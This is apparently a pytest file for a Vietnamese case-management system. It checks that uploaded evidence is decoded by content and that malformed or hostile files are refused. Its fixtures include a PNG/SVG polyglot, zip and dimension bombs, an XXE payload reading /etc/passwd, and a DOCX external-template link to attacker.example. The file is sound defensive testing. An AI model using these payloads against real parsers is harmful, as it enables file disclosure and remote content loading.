"""Issue 12 item 2 (and issue 17): evidence is accepted only when it decodes, whatever its name says.

The attack: evidence was accepted on its first bytes, so a 79-byte file made of the
PNG signature followed by SVG was stored, and ``draft_referral`` then answered 500
(``OSError: Truncated File Read``) for ever.  Now every upload is fully decoded in
a limited child process (``services.evidence_check``): Pillow ``verify()`` and
``load()`` for PNG/JPEG, pypdf for every page of a PDF (and the copy the dossier
makes), the zip checks and every sheet for XLSX, the expected parts of a DOCX;
what does not decode is refused with a message naming the problem, and nothing
is stored.  The office formats people receive (XLSX, DOCX, PDF, images) are
accepted by content, not by name.
"""

from __future__ import annotations

import io
import zipfile

import pytest

from enforcement.extensions import db
from enforcement.models import CaseEvent, Evidence
from enforcement.services import evidence_check
from enforcement.services.evidence_check import DOCX, JPEG, PDF, PNG, XLSX, ContentRefused
from tests import evidence_files as files
from tests.api.conftest import open_case
from tests.conftest import Auth, csrf_from
from tests.hostile import xlsx_bombs

WORKBOOK_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _as_real_xlsx(data: bytes) -> bytes:
    """``xlsx_bombs``' workbooks with the main part declared, as every spreadsheet program writes it."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "[Content_Types].xml":
                body = body.replace(b"</Types>", f'<Override PartName="/xl/workbook.xml" '
                                                 f'ContentType="{WORKBOOK_MAIN}"/></Types>'.encode())
            archive.writestr(info.filename, body)
    return out.getvalue()


def _truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


EXTERNAL_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
XXE = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>')

GOOD = {
    "scan.pdf": (files.pdf(2), PDF),
    "anh.png": (files.png(), PNG),
    "anh.jpg": (files.jpeg(), JPEG),
    "bang-luong.xlsx": (files.xlsx(), XLSX),
    "bien-ban.docx": (files.docx(), DOCX),
}
# name → (bytes, words the refusal must contain)
HOSTILE = {
    "polyglot.png": (files.png_svg_polyglot(), "không phải ảnh PNG"),
    "truncated.pdf": (_truncated(files.pdf(3)), "PDF"),
    "truncated.png": (_truncated(files.image("PNG", (300, 300))), "PNG"),
    "truncated.jpg": (_truncated(files.image("JPEG", (300, 300))), "JPEG"),
    "bomb.docx": (files.zip_bomb_docx(), "bom nén"),
    "dimension.xlsx": (_as_real_xlsx(xlsx_bombs.workbook(xlsx_bombs.sheet(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "A1:XFD1048576"))), "cột XFD"),
    "huge.png": (files.huge_png(), "triệu điểm ảnh"),
    "macro.xlsm": (files.docx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"),
    "template.docx": (files.docx(extra={"word/_rels/document.xml.rels": EXTERNAL_TEMPLATE}), "tài nguyên bên ngoài"),
    "xxe.docx": (files.docx(document=XXE), "DOCTYPE"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, ".docx"),
    "archive.zip": (files.docx(main="application/vnd.oasis.opendocument.text"), "không phải bảng tính XLSX"),
    "page.html": (b"<html><script>alert(1)</script></html>", "xét theo nội dung"),
}


def test_the_polyglot_of_the_report_is_79_bytes_and_starts_like_a_png():
    data = files.png_svg_polyglot()
    assert len(data) == 79 and evidence_check.sniff(data) == PNG and b"<svg" in data


@pytest.mark.parametrize("name", sorted(GOOD))
def test_the_office_formats_decode_and_are_told_apart_by_content(name):
    data, mime = GOOD[name]
    assert evidence_check.check(data).mime == mime


def test_a_pdf_reports_its_pages_and_an_image_its_size():
    assert evidence_check.check(files.pdf(3)).pages == 3
    checked = evidence_check.check(files.image("PNG", (123, 45)))
    assert (checked.width, checked.height) == (123, 45)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_what_does_not_decode_is_refused_with_the_reason(name):
    data, words = HOSTILE[name]
    with pytest.raises(ContentRefused) as refused:
        evidence_check.check(data)
    assert words in refused.value.message


def test_a_child_killed_by_its_limits_is_a_clear_refusal(monkeypatch):
    """A decoder that blows the child's memory cap: only the child dies, the caller gets a message."""
    monkeypatch.setattr(evidence_check, "CHILD_MEMORY_BYTES", 64 * 1024 * 1024)
    with pytest.raises(ContentRefused, match="vượt giới hạn bộ nhớ hoặc thời gian xử lý"):
        evidence_check.check(files.image("PNG", (6000, 6000)))  # 108 MB of pixels in a 64 MB address space


# --------------------------------------------------------------------------- through the API and the page


def _count(case_id: int) -> tuple[int, int]:
    evidence = db.session.scalar(db.select(db.func.count(Evidence.id)).where(Evidence.case_id == case_id))
    events = db.session.scalar(db.select(db.func.count(CaseEvent.id)).where(CaseEvent.case_id == case_id))
    return evidence, events


def _post(client, case_id: int, data: bytes, name: str):
    return client.post(f"/cases/{case_id}/evidence", content_type="multipart/form-data", data={
        "file": (io.BytesIO(data), name), "category": "payroll", "copy_form": "original",
        "description": "Bảng lương"})


@pytest.mark.parametrize("name", ["polyglot.png", "truncated.pdf", "bomb.docx", "dimension.xlsx", "huge.png"])
def test_the_api_answers_422_naming_the_file_and_stores_nothing(api, world, name):
    case = open_case(world.office, world.inspector)
    client = api.as_(world.inspector)
    before = _count(case.id)
    response = _post(client, case.id, HOSTILE[name][0], name)
    assert response.status_code == 422
    body = response.get_json()
    assert body["error"] == "ValidationFailed" and HOSTILE[name][1] in body["errors"]["file"][0]
    assert _count(case.id) == before
    assert client.get(f"/cases/{case.id}").status_code == 200  # the process that answered is alive


@pytest.mark.parametrize(("name", "stored_as"), [("bang-luong.pdf", XLSX), ("bien-ban.png", DOCX),
                                                 ("scan.docx", PDF)])
def test_the_api_stores_the_kind_the_content_is_not_the_name(api, world, name, stored_as):
    case = open_case(world.office, world.inspector)
    data = {XLSX: files.xlsx(), DOCX: files.docx(), PDF: files.pdf()}[stored_as]
    response = _post(api.as_(world.inspector), case.id, data, name)
    assert response.status_code == 200
    assert response.get_json()["mime"] == stored_as
    assert db.session.get(Evidence, response.get_json()["id"]).data == data


def test_the_case_page_refuses_the_polyglot_with_the_reason_and_keeps_working(client, world):
    case = open_case(world.office, world.inspector)
    assert Auth(client).login(world.inspector.username).status_code == 302
    token = csrf_from(client.get(f"/cases/{case.id}").get_data(as_text=True))
    before = _count(case.id)
    response = client.post(f"/cases/{case.id}/evidence", content_type="multipart/form-data", follow_redirects=True,
                           data={"csrf_token": token, "category": "other", "copy_form": "original",
                                 "file": (io.BytesIO(files.png_svg_polyglot()), "anh.png")})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "không phải ảnh PNG đọc được" in page
    assert _count(case.id) == before
    ok = client.post(f"/cases/{case.id}/evidence", content_type="multipart/form-data", follow_redirects=True,
                     data={"csrf_token": token, "category": "payroll", "copy_form": "original",
                           "file": (io.BytesIO(files.xlsx()), "bang-luong.xlsx")})
    assert "Đã tải lên “bang-luong.xlsx”" in ok.get_data(as_text=True)
    assert _count(case.id) == (before[0] + 1, before[1] + 1)
